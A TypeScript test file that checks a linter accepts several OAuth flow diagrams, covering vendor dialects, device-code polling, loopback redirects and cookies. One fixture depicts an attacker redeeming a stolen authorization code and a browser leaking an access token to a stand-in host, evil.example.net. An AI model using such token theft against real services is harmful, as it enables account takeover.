/** Flows that nobody should be told of an error in: thin ones, dialects of vendors, and attacks that are shown. */
import { expect, it } from 'vitest';
import { lines, lintText } from './compile.js';

const head = `id: flow
title: Flow
participants:
  B: { label: Browser, kind: browser }
  C: { label: Client, kind: confidential-client }
  APP: { label: App, kind: public-client }
  AS: { label: Server, kind: authorization-server, url: https://as.example.com }
  X: { label: Attacker, kind: attacker }
steps:
`;

const flows: Readonly<Record<string, string>> = {
  'without data': `
  - B -> AS: GET /authorize
  - AS --> B: 302 with a code
  - C -> AS: POST /token
  - AS --> C: 200 tokens
`,
  'a response without its headers': `
  - C -> AS: POST /token
    request: { headers: { Authorization: "Basic <id:secret>" }, form: { grant_type: client_credentials } }
  - AS --> C: 200 tokens
    response: { json: { access_token: "...", token_type: Bearer } }
`,
  'Google: the scope is a claim, and there is no sub': `
  - C -> AS: POST /token
    request: { form: { grant_type: "urn:ietf:params:oauth:grant-type:jwt-bearer", assertion: "<jwt>" } }
    jwts:
      assertion: { header: { alg: RS256 }, claims: { iss: robot@acme.example, scope: read, aud: "https://as.example.com/token", iat: 1, exp: 3601 } }
`,
  'Auth0: a token request in JSON': `
  - C -> AS: POST /oauth/token
    request: { json: { grant_type: client_credentials, client_id: "<id>", client_secret: "<secret>", audience: "<api>" } }
`,
  'an attacker redeems a stolen code': `
  - X -> AS: POST /token
    request: { form: { grant_type: authorization_code, code: "<stolen>", client_secret: "<stolen too>" } }
  - B -> X: GET /evil
    request: { url: "http://evil.example.net/?access_token=x", query: { client_secret: x } }
`,
  'the last round of polling after the loop': `
  - loop: every 5 seconds
    steps:
      - APP -> AS: POST /token
        request: { form: { grant_type: "urn:ietf:params:oauth:grant-type:device_code", device_code: "<code>" } }
      - AS --> APP: 400 authorization_pending
        response: { json: { error: authorization_pending } }
  - APP -> AS: POST /token
    request: { form: { grant_type: "urn:ietf:params:oauth:grant-type:device_code", device_code: "<code>" } }
`,
  'a loopback redirect to any port': `
  - B -> AS: GET /authorize
    request: { query: { response_type: code, redirect_uri: "http://127.0.0.1:<port>/cb", state: "<state>", code_challenge: "<challenge>", code_challenge_method: S256 } }
  - AS --> B -> APP: 303 to the app
    redirect: { to: "http://127.0.0.1:51004/cb", query: { code: "<code>", state: "<state>" } }
`,
  'a cookie against forgery, and one that ends': `
  - C --> B: 200 page
    response: { headers: { Set-Cookie: ["XSRF-TOKEN=<random>; Path=/; Secure; SameSite=Lax", "sid=; Max-Age=0"] } }
`,
};

it.each(Object.entries(flows))('%s', (_, steps) => {
  expect(lines(lintText(head + steps.slice(1), 'flow.yaml')).filter((line) => line.startsWith('error'))).toEqual([]);
});
